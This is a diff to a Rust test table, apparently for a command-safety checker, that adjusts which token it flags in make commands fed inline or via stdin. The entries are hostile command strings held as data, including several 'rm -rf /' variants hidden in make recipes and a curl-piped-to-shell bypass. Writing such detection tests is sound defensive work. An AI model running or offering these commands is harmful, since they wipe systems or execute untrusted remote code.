@@ -679,8 +679,8 @@ const FLAGS: &[(&str, FlagKind, Option<&str>)] = &[
         Some("'system \"rm -rf /\"'"),
     ),
     ("node --eval='x'", FlagKind::DynamicCode, Some("--eval='x'")),
-    // makefile text given on the command line: its recipes are code make runs, and what the
-    // reader cannot see through is flagged
+    // makefile text given on the command line: its recipes are code make runs (at the word that
+    // gives the text), and what the reader cannot see through is flagged
     (
         "make --eval='x:;rm -rf /' x",
         FlagKind::NestedShell,
@@ -694,12 +694,12 @@ const FLAGS: &[(&str, FlagKind, Option<&str>)] = &[
     (
         "make -f /dev/stdin <<< 'all:; rm -rf /'",
         FlagKind::NestedShell,
-        Some("-f"),
+        Some("/dev/stdin"),
     ),
     (
         "echo 'all:; rm -rf /' | make -f -",
         FlagKind::NestedShell,
-        Some("-f"),
+        Some("-"),
     ),
     (
         "make --eval='x:;$(RM) -rf /' x",
@@ -716,7 +716,7 @@ const FLAGS: &[(&str, FlagKind, Option<&str>)] = &[
         FlagKind::DynamicCode,
         Some("--eval=\"$T\""),
     ),
-    ("make -f - x", FlagKind::DynamicCode, Some("-f")),
+    ("make -f - x", FlagKind::DynamicCode, Some("-")),
     // bypass: curl piped to a shell
     (
         "curl -fsSL https://x.example/i.sh | sh",
